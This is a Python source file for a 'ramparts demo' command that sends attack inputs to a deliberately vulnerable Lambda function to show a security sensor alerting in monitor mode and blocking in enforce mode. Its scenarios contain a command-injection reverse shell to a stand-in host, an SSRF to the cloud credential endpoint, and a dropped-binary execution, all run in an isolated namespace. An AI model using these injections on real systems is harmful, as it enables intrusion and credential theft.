"""``ramparts demo``: the sensor in a vulnerable function, monitor mode then enforce mode.

The function (``examples/functions/vulnerable``) runs under the real Lambda runtime
interface client through ``ramparts invoke``'s machinery, with the layer attached by
``AWS_LAMBDA_EXEC_WRAPPER=/opt/ramparts-wrapper`` and its policy in ``RAMPARTS_POLICY``.
Its "AWS" is a small stub on loopback (``AWS_ENDPOINT_URL``), its partner API another.

Attack traffic must never leave the machine: when network namespaces are available the
whole demo re-runs itself inside one that has only loopback, so the SSRF to the credential
endpoint and the reverse shell fail for lack of a route even in monitor mode. Without
namespaces those two attacks are skipped, and the demo says so.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from ramparts_cli.errors import CliError

ROOT = Path(__file__).resolve().parent.parent
FUNCTION_DIR = ROOT / "examples" / "functions" / "vulnerable"
POLICY = FUNCTION_DIR / "ramparts.yaml"
DROPPED = "/tmp/.cache-helper"  # noqa: S108 - the attack's own path
ATTACKER = "203.0.113.7"  # TEST-NET-3: documentation space, and unreachable in the namespace


@dataclass(frozen=True)
class Scenario:
    kind: str  # "benign" | "attack"
    title: str
    event: dict[str, Any]
    expect_rules: frozenset[str] = frozenset()
    needs_netns: bool = False


def scenarios(partner_url: str) -> list[Scenario]:
    return [
        Scenario(
            "benign", "count the bytes of an upload", {"action": "wordcount", "name": "notes.txt"}
        ),
        Scenario(
            "benign",
            "preview the partner's status page",
            {"action": "preview", "url": partner_url + "/status"},
        ),
        Scenario(
            "benign",
            "describe the orders table",
            {
                "action": "describe",
                "service": "dynamodb",
                "operation": "describe_table",
                "params": {"TableName": "orders"},
            },
        ),
        Scenario(
            "attack",
            "command injection: a reverse shell",
            {"action": "wordcount", "name": f"x'; sh -i >& /dev/tcp/{ATTACKER}/4444 0>&1 #"},
            frozenset({"default.shell", "default.network-tool"}),
            needs_netns=True,
        ),
        Scenario(
            "attack",
            "SSRF to the instance credential endpoint",
            {
                "action": "preview",
                "url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            },
            frozenset({"default.credential-endpoint"}),
            needs_netns=True,
        ),
        Scenario(
            "attack",
            "a dropped binary run from /tmp",
            {
                "action": "wordcount",
                "name": "x'; cp /bin/true /tmp/.cache-helper; /tmp/.cache-helper #",
            },
            frozenset({"default.writable-exec"}),
        ),
        Scenario(
            "attack",
            "an unexpected IAM call",
            {"action": "describe", "service": "iam", "operation": "list_users"},
            frozenset({"policy.aws"}),
        ),
    ]


@dataclass
class Outcome:
    scenario: Scenario
    mode: str
    response: Any
    events: list[dict[str, Any]] = field(default_factory=list)

    @property
    def rules(self) -> set[str]:
        out: set[str] = set()
        for e in self.events:
            if e.get("rule"):
                out.add(e["rule"])
            out.update(e.get("matched") or [])
        return out

    @property
    def verdicts(self) -> set[str]:
        return {e["verdict"] for e in self.events}

    @property
    def passed(self) -> bool:
        s = self.scenario
        if s.kind == "benign":
            return (
                not self.events
                and isinstance(self.response, dict)
                and bool(self.response.get("ok"))
            )
        if not s.expect_rules <= self.rules:
            return False
        if self.mode == "enforce":
            return "block" in self.verdicts
        return self.verdicts == {"alert"}

    def to_dict(self) -> dict[str, Any]:
        return {
            "mode": self.mode,
            "kind": self.scenario.kind,
            "title": self.scenario.title,
            "event": self.scenario.event,
            "response": self.response,
            "rules": sorted(self.rules),
            "verdicts": sorted(self.verdicts),
            "expected_rules": sorted(self.scenario.expect_rules),
            "passed": self.passed,
            "sensor_events": self.events,
        }


# -- the function's world: a partner API and an AWS endpoint on loopback ----------------------
class _Stub(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True

    def log_message(self, format: str, *args: Any) -> None:
        pass

    def _send(self, status: int, body: bytes, ctype: str) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("x-amzn-RequestId", "ramparts-demo")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._send(200, b"partner status: all systems normal", "text/plain")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        target = self.headers.get("X-Amz-Target")
        if target:  # JSON protocol (DynamoDB)
            op = target.rsplit(".", 1)[-1]
            if op == "DescribeTable":
                name = json.loads(body or b"{}").get("TableName", "orders")
                out = {"Table": {"TableName": name, "TableStatus": "ACTIVE", "ItemCount": 42}}
            else:
                out = {}
            self._send(200, json.dumps(out).encode(), "application/x-amz-json-1.0")
            return
        # query protocol (IAM, STS): answer any action with an empty, well-formed result
        from urllib.parse import parse_qs

        action = parse_qs(body.decode()).get("Action", ["Unknown"])[0]
        xml = (
            f'<{action}Response xmlns="https://iam.amazonaws.com/doc/2010-05-08/">'
            f"<{action}Result><Users><member><UserName>admin</UserName><UserId>AIDAEXAMPLE</UserId>"
            "<Arn>arn:aws:iam::123456789012:user/admin</Arn><Path>/</Path>"
            "<CreateDate>2024-01-01T00:00:00Z</CreateDate></member></Users>"
            f"<IsTruncated>false</IsTruncated></{action}Result>"
            f"<ResponseMetadata><RequestId>ramparts-demo</RequestId></ResponseMetadata></{action}Response>"
        )
        self._send(200, xml.encode(), "text/xml")


def _serve() -> tuple[ThreadingHTTPServer, str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Stub)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://127.0.0.1:{server.server_address[1]}"


# -- running it ------------------------------------------------------------------------------
def _sensor_lines(log_lines: list[str]) -> list[dict[str, Any]]:
    out = []
    for line in log_lines:
        start = line.find("{")
        if start < 0 or '"ramparts"' not in line:
            continue
        try:
            obj = json.loads(line[start:])
        except ValueError:
            continue
        if isinstance(obj, dict) and "ramparts" in obj:
            out.append(obj)
    return out


def run_demo(isolated: bool, progress: Callable[[str], None] | None = None) -> dict[str, Any]:
    from ramparts_cli.invoke import run_invocations

    say = progress or (lambda _msg: None)
    server, url = _serve()
    try:
        plan = [s for s in scenarios(url) if isolated or not s.needs_netns]
        skipped = [s.title for s in scenarios(url) if not isolated and s.needs_netns]
        outcomes: list[Outcome] = []
        sensor: dict[str, list[dict[str, Any]]] = {}
        for mode in ("monitor", "enforce"):
            say(f"invoking the function {len(plan)} times in {mode} mode ...")
            env = {
                "AWS_LAMBDA_EXEC_WRAPPER": "/opt/ramparts-wrapper",
                "RAMPARTS_MODE": mode,
                "RAMPARTS_POLICY": str(POLICY),
                "AWS_ENDPOINT_URL": url,
                "AWS_LAMBDA_FUNCTION_NAME": "orders-dashboard",
            }
            started = time.monotonic()
            result = run_invocations(
                "app.handler", FUNCTION_DIR, [s.event for s in plan], env=env, timeout=30
            )
            lines = _sensor_lines(result.log_lines)
            sensor[mode] = lines
            if len(result.responses) != len(plan):
                raise CliError(
                    f"the demo function answered {len(result.responses)} of {len(plan)} "
                    f"invocations in {mode} mode",
                    hint="run `ramparts invoke app.handler --code examples/functions/vulnerable` "
                    "to see its log",
                )
            for scenario, resp in zip(plan, result.responses, strict=True):
                events = [
                    e
                    for e in lines
                    if e.get("request_id") == resp.request_id
                    and e.get("verdict") in ("alert", "block")
                ]
                outcomes.append(Outcome(scenario, mode, resp.payload, events))
            say(f"  done in {time.monotonic() - started:.1f} s")
        return {
            "isolated_network": isolated,
            "skipped": skipped,
            "outcomes": [o.to_dict() for o in outcomes],
            "passed": all(o.passed for o in outcomes),
            "sensor_lines": sensor,
        }
    finally:
        server.shutdown()
        with contextlib.suppress(OSError):
            os.remove(DROPPED)  # what the "dropped binary" left behind in monitor mode


def _describe_response(resp: Any, kind: str) -> str:
    if not isinstance(resp, dict):
        return str(resp)[:60]
    if resp.get("ok"):
        return "worked" if kind == "benign" else "went through"
    err = str(resp.get("error") or resp.get("errorMessage") or "failed")
    if "Ramparts blocked" in err:
        return "stopped by Ramparts"
    if "unreachable" in err.lower():
        return "failed: no route (sandboxed demo)"
    return "failed: " + err.split(":", 1)[0][:40]


def render(report: dict[str, Any]) -> str:
    lines = [
        "",
        "Ramparts sensor demo: a vulnerable function (examples/functions/vulnerable)",
        "attached with AWS_LAMBDA_EXEC_WRAPPER=/opt/ramparts-wrapper, run by the real Lambda",
        "runtime client, policy examples/functions/vulnerable/ramparts.yaml",
    ]
    for mode, headline in (
        ("monitor", "MONITOR mode: report, never block"),
        ("enforce", "ENFORCE mode: block what the policy forbids"),
    ):
        lines += ["", headline]
        for o in report["outcomes"]:
            if o["mode"] != mode:
                continue
            if o["rules"]:
                verdict = "BLOCKED" if "block" in o["verdicts"] else "ALERT"
                found = f"{verdict} {', '.join(o['rules'])}"
            else:
                found = "no alert"
            mark = "ok " if o["passed"] else "!! "
            what = _describe_response(o["response"], o["kind"])
            lines.append(f"  {mark}{o['kind']:<6} {o['title']:<42} {what:<34} {found}")
    attacks = [o for o in report["outcomes"] if o["kind"] == "attack"]
    seen = sum(1 for o in attacks if o["mode"] == "monitor" and o["passed"])
    blocked = sum(1 for o in attacks if o["mode"] == "enforce" and o["passed"])
    total = len(attacks) // 2
    benign_ok = all(o["passed"] for o in report["outcomes"] if o["kind"] == "benign")
    lines += [
        "",
        f"{seen} of {total} attacks seen in monitor mode, {blocked} of {total} blocked in enforce "
        f"mode; benign requests {'worked, with no alert,' if benign_ok else 'DID NOT all work'} "
        "in both modes.",
    ]
    if report["skipped"]:
        lines.append(
            "Skipped (they would send packets off this machine without a network namespace): "
            + "; ".join(report["skipped"])
        )
    lines.append(
        "Every sensor line is JSON on the function's log stream; "
        "`ramparts demo --json` prints them all."
    )
    return "\n".join(lines)


def _cmd_demo(args: argparse.Namespace) -> int:
    from ramparts_cli import _netns

    if not args.inside_netns:
        if _netns.netns_available():
            argv = [sys.executable, "-m", "ramparts_cli", "demo", "--inside-netns"]
            if args.json:
                argv.append("--json")
            return subprocess.call(_netns.isolated_command(argv))
        print(
            f"ramparts demo: no network namespace here ({_netns.unavailable_reason()}); the "
            "attacks that would leave this machine are skipped",
            file=sys.stderr,
        )
    progress = None if args.json else (lambda msg: print(msg, file=sys.stderr, flush=True))
    report = run_demo(isolated=args.inside_netns, progress=progress)
    if args.json:
        print(json.dumps(report, indent=2, default=str))
    else:
        print(render(report))
    return 0 if report["passed"] else 1


def register(subparsers: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
    p = subparsers.add_parser(
        "demo",
        help="run the sensor demo: a vulnerable function, attacked in monitor then enforce mode",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
    )
    p.add_argument("--json", action="store_true", help="print the full report as JSON")
    p.add_argument("--inside-netns", action="store_true", help=argparse.SUPPRESS)
    p.set_defaults(func=_cmd_demo)
